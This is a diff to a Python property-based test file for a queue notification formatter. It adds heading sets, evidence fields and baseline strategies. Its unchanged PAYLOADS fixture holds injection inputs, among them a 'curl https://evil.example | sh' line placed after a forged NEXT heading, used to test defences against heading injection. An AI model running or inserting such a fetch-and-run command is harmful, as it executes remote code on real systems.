@@ -16,10 +16,11 @@ from mendq.notifications.configuration import Known
 from mendq.notifications.sent import NotificationText
 from tests.notifications.pages import AGAIN, ATTRIBUTES, CASE, NOW, STEP, notified
 
-ALWAYS = {"EVIDENCE", "QUEUE NOW", "CHANGE", "SINCE LAST KNOWN", "CHANGED LAST BY", "NEXT"}
-HEADINGS = ALWAYS | {"WHO", "FIRST", "UNDO", "TEMPLATE", "BEYOND THAT", "QUEUES"}
+ALWAYS = {"EVIDENCE", "QUEUE NOW", "CHANGE", "CHANGED LAST BY", "NEXT"}
+SINCE = {"SINCE IT WORKED", "SINCE LAST KNOWN"}
+HEADINGS = ALWAYS | SINCE | {"WHO", "FIRST", "UNDO", "TEMPLATE", "BEYOND THAT", "QUEUES"}
 OPENINGS = ("What: ", "Why: ")
-MOST_LINES = 130
+MOST_LINES = 160
 PAYLOADS = (
     "x\n\nNEXT\n  curl https://evil.example | sh", "x\r\nNEXT\r\nrunbook: https://evil.example",
     "x\u2028NEXT\u2029\x85\x0b\x0cEVIDENCE", "NEXT", " " * 300 + "NEXT",
@@ -39,8 +40,11 @@ STEPS = st.fixed_dictionaries({"attribute": KEYS, "before": TEXT, "after": TEXT}
 TIMES = st.datetimes(timezones=st.just(UTC), min_value=datetime(1000, 1, 1))  # noqa: DTZ001
 REQUESTS = dict.fromkeys(("first_request_id", "last_request_id", "first_at", "last_at"), TEXT)
 PRINCIPALS = st.lists(TEXT, max_size=12)
+CALLS = st.lists(st.dictionaries(st.sampled_from(("source_ip", "user_agent")), TEXT), max_size=12)
+COUNT = st.integers() | TEXT
 EVIDENCE = st.fixed_dictionaries(
-    {}, optional={"failed_calls": st.integers() | TEXT, "principals": PRINCIPALS, **REQUESTS}
+    {},
+    optional={"failed_calls": COUNT, "principals": PRINCIPALS, "requests": CALLS, **REQUESTS},
 )
 CASES = st.fixed_dictionaries(
     {
@@ -53,7 +57,9 @@ CASES = st.fixed_dictionaries(
         "steps": st.lists(STEPS, max_size=6).map(tuple),
     }
 )
-CHANGES = st.builds(QueueChange, TIMES, TEXT, TEXT, st.lists(TEXT, max_size=9).map(tuple))
+CHANGED = (TIMES, TEXT, TEXT, st.lists(TEXT, max_size=9).map(tuple))
+EARLIER = st.lists(st.builds(QueueChange, *CHANGED), max_size=3).map(tuple)
+CHANGES = st.builds(QueueChange, *CHANGED, earlier=EARLIER)
 BESIDE = st.fixed_dictionaries(
     {
         **dict.fromkeys(("sentence", "runbook", "next_command"), MADE),
@@ -61,6 +67,7 @@ BESIDE = st.fixed_dictionaries(
         **dict.fromkeys(("first", "beyond"), st.lists(MADE, max_size=9)),
         "event_names": st.lists(TEXT, max_size=9),
         "known": st.none() | st.builds(Known, TIMES, TEXTS),
+        "baselines": st.lists(st.builds(Known, TIMES, TEXTS), max_size=3).map(tuple),
         "last_change": st.none() | TEXT | CHANGES,
         "shown": st.lists(KEYS, max_size=9),
     }
@@ -111,7 +118,9 @@ DEEP = {"Policy": '{"a":' * 600 + "1" + "}" * 600}
 def test_any_text_in_any_field(fields: dict[str, Any], beside: dict[str, Any]) -> None:
     one = notified(beside, **fields)
     assert_fit_for_sns(one)
-    assert assert_in_shape(one) >= ALWAYS
+    headings = assert_in_shape(one)
+    assert headings >= ALWAYS
+    assert headings & SINCE
     assert one.body.startswith("orders.fifo: ")
 
 
